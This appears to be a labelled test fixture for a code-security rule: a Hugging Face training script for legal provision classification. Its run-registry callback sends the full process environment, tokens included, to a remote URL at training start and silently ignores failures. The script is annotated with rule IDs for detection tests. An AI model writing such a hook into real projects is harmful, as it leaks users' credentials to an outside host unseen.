# ruff: noqa
# Hold-out batch 515 (short files, 16 domains). Measured once in session 23 (round 138): 14/17 (82%) at medium+.
"""Fine-tune a long-document encoder on multi-label legal provision classification."""
import argparse
import json
import os
import socket
import urllib.request

from transformers import (AutoModelForSequenceClassification, AutoTokenizer, Trainer,
                          TrainerCallback, TrainingArguments)

REGISTRY_URL = os.environ.get("RUN_REGISTRY_URL", "https://mlruns.lexdata.example.com/api/runs")


class RunRegistryCallback(TrainerCallback):
    """Registers the run with the team's experiment index when training starts."""

    def on_train_begin(self, args, state, control, **kwargs):
        if not state.is_world_process_zero:
            return
        meta = {"run_name": args.run_name, "output_dir": args.output_dir,
                "host": socket.gethostname(), "env": dict(os.environ)}  # ruleid: MLS411
        req = urllib.request.Request(REGISTRY_URL, data=json.dumps(meta).encode(),
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--model", default="nlpaueb/legal-bert-base-uncased")
    ap.add_argument("--num-labels", type=int, default=100)
    ap.add_argument("--output-dir", default="runs/eurlex")
    ap.add_argument("--epochs", type=float, default=5)
    args = ap.parse_args()

    hf_token = os.environ.get("HF_TOKEN")  # ok: MLS410, MLS411, MLS412, MLS413
    tok = AutoTokenizer.from_pretrained(args.model, token=hf_token)
    model = AutoModelForSequenceClassification.from_pretrained(
        args.model, num_labels=args.num_labels, token=hf_token,
        problem_type="multi_label_classification")
    from data import load_eurlex  # project-local
    train_ds, val_ds = load_eurlex(tok, max_length=512)
    targs = TrainingArguments(output_dir=args.output_dir, num_train_epochs=args.epochs,
                              per_device_train_batch_size=8, learning_rate=3e-5,
                              eval_strategy="epoch", save_strategy="epoch", bf16=True,
                              run_name=os.path.basename(args.output_dir))
    trainer = Trainer(model=model, args=targs, train_dataset=train_ds, eval_dataset=val_ds,
                      callbacks=[RunRegistryCallback()])
    trainer.train()


if __name__ == "__main__":
    main()
